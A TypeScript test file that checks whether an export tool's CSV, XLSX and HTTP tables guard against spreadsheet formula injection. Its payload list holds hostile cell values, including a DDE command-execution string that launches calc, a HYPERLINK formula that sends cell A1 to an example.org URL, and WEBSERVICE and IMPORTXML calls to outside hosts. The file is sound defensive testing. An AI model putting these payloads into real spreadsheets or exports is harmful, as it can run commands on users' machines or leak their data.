import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import readWorkbook from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csvTable } from '../../src/app/facts/csv.js';
import type { ExportedStory } from '../../src/export/source.js';
import { columnsOf, rowsOf, tableTypes } from '../../src/export/tables/columns.js';
import { csvFiles } from '../../src/export/tables/csv.js';
import { workbook } from '../../src/export/tables/xlsx.js';
import type { Statement, StatementType } from '../../src/model/statement.js';
import { story } from '../told.js';

const run = `cmd|'/C calc'!A0`;

/** What spreadsheets run, or what would bring them to run something: signs, blanks before signs, separators, quotation marks, calls. */
const payloads: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '|1', '%1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...[' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\u200b=1+1', '\u202e=1+1', '\u2060=1+1'],
  ...[`=${run}`, `-2+3+${run}`, `@SUM(1)*${run}`, `+${run}`, '=DDE("a";"b";"c")', '=HYPERLINK("http://example.org/?"&A1)'],
  ...['=WEBSERVICE("http://example.org/")', '=IMPORTXML("http://example.org/";"//a")', '=IFERROR(1/0;A1)'],
  ...['a,=1+1', 'a;=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n=1+1', '"=1+1', '",=1+1', '";=1+1', `'=1+1`, `"=1+1","=1+1"`, '_x003D_1+1'],
];

/** Every text in a value is the payload. */
function filled(value: unknown, payload: string): unknown {
  if (typeof value === 'string') return payload;
  if (Array.isArray(value)) return value.length === 0 ? value : value.map((one) => filled(one, payload));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, filled(one, payload)]));
}

const person = { name: '甲', office: '乙', country: '丙' };
const actors = (['actor', 'recipient', 'participant'] as const).map((role) => ({ ...person, role }));
/** One statement of each type in which every field that may hold a text holds one. */
const full: readonly Statement[] = story('a', tableTypes.map((type) => ({ type, quote: type })) as never).statements.map((s) => ({
  ...s,
  ...(s.type === 'event'
    ? {
        actors,
        date: 'x',
        format: 'x',
        place: 'x',
        object: { item: 'x', quantity: 1, unit: 'x' },
        plover: { type: 'x', mode: 'x' },
        cameo: 'x',
      }
    : s.type === 'figure'
      ? { label: 'x', bound: 'x', period: 'x', source: 'x' }
      : s.type === 'target'
        ? { label: 'x', bound: 'x', due: 'x' }
        : s.type === 'office'
          ? { aliases: ['x'], latin: 'x', organisation: 'x' }
          : s.type === 'body'
            ? { aliases: ['x'], parts: ['x'], chairs: ['x'] }
            : s.type === 'agreement'
              ? { status: 'x', date: 'x' }
              : s.type === 'project'
                ? { status: 'x', place: 'x' }
                : s.type === 'relation'
                  ? { level: 'x', date: 'x' }
                  : s.type === 'commitment'
                    ? { due: 'x' }
                    : { topic: 'x' }),
  speaker: person,
  roles: { x: { basis: 'inherited', start: 0, end: 1 } },
})) as never;

const types = new Map(full.map((s) => [s, s.type]));
const stories: readonly ExportedStory[] = payloads.map((payload) => ({
  article: filled(
    { ...story('x', []).article, title: 'x', agency: 'x', published: { date: 'x', basis: 'stated', quote: 'x' } },
    payload,
  ) as never,
  text: '',
  facts: full.map((s) => ({
    statement: { ...(filled({ ...s, actors: undefined }, payload) as Statement), ...withRoles(s, payload), type: types.get(s)! } as never,
    claim: payload,
  })),
  findings: [],
}));

/** The roles of actors and the name under which a part was inherited are no texts. */
function withRoles(s: Statement, payload: string): object {
  const roles = { [payload]: { basis: 'inherited', start: 0, end: 1 } };
  return s.type === 'event' ? { roles, actors: s.actors.map((a) => ({ ...(filled(a, payload) as object), role: a.role })) } : { roles };
}

async function* given(): AsyncGenerator<ExportedStory> {
  yield* stories;
}

/** Whether a spreadsheet would take it for a formula, whatever blanks it drops first. */
const runs = (cell: string): boolean => /^[\s\u00a0\u3000\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell);
const shown = (payload: string): string => payload.replaceAll('\r\n', '\n').replaceAll('\r', '\n');

/** What stands in a column of the only row of a type, before it is guarded. */
const meantCell = (type: StatementType, one: ExportedStory, column: number): unknown => rowsOf(type, one)[0]![column];

describe('S8: formulas', () => {
  it('CSV: in no table does a cell begin one, however the line is divided, and each can be had back', async () => {
    const tables = new Map<string, string>();
    for await (const { file, content } of csvFiles(given())) tables.set(file, (tables.get(file) ?? '') + content);
    let seen = 0;
    for (const type of tableTypes) {
      const text = tables.get(`${type}.csv`)!;
      const [head, ...rows] = parse(text, { bom: true }) as string[][];
      const anyhow = parse(text, { bom: true, delimiter: [',', ';', '\t'] }) as string[][];
      expect(anyhow).toEqual([head, ...rows]);
      expect(rows).toHaveLength(payloads.length);
      for (const [i, payload] of payloads.entries())
        for (const [k, column] of columnsOf(type).entries()) {
          const cell = rows[i]![k]!;
          const meant = meantCell(type, stories[i]!, k);
          if (typeof meant !== 'string') continue;
          if (meant.includes(payload)) seen++;
          expect([column.name, cell, runs(cell)]).toEqual([column.name, cell, false]);
          expect(cell.startsWith("'") && cell !== meant ? cell.slice(1) : cell).toBe(meant);
        }
      for (const [k, column] of columnsOf(type).entries())
        if (!['item', 'start', 'end', 'confidence', 'value', 'upper', 'growth', 'session', 'object_quantity'].includes(column.name))
          expect([type, column.name, rows.every((row, i) => row[k]!.includes(payloads[i]!) || column.name === 'not_stated')]).toEqual([
            type,
            column.name,
            true,
          ]);
    }
    expect(seen).toBeGreaterThan(payloads.length * 150);
  });

  it('XLSX: every cell is a text, as it was', async () => {
    const parts: Buffer[] = [];
    for await (const piece of workbook(given())) parts.push(Buffer.from(piece));
    const bytes = Buffer.concat(parts);
    const sheets = await readWorkbook(bytes, { trim: false });
    for (const [n, type] of tableTypes.entries()) {
      const [, ...rows] = sheets[n]!.data;
      for (const [i, given] of stories.entries())
        for (const k of columnsOf(type).keys()) {
          const meant = meantCell(type, given, k);
          if (typeof meant === 'string') expect(shown(String(rows[i]![k]))).toBe(shown(meant));
        }
    }
    for (const [name, part] of Object.entries(unzipSync(bytes)))
      if (name.startsWith('xl/worksheets/')) expect(strFromU8(part)).not.toMatch(/<f[ >/]|t="(?:str|e)"/);
  });

  it('tables of the HTTP interface', () => {
    const rows = parse(
      csvTable(
        ['a', 'b'],
        payloads.map((payload) => [payload, payload]),
      ),
      { bom: true, delimiter: [',', ';', '\t'] },
    ) as string[][];
    expect(rows.slice(1).flat().filter(runs)).toEqual([]);
    expect(rows).toHaveLength(payloads.length + 1);
  });

  it('the deck has 40 payloads, each in every column of texts', () => expect(new Set(payloads).size).toBe(40));
});
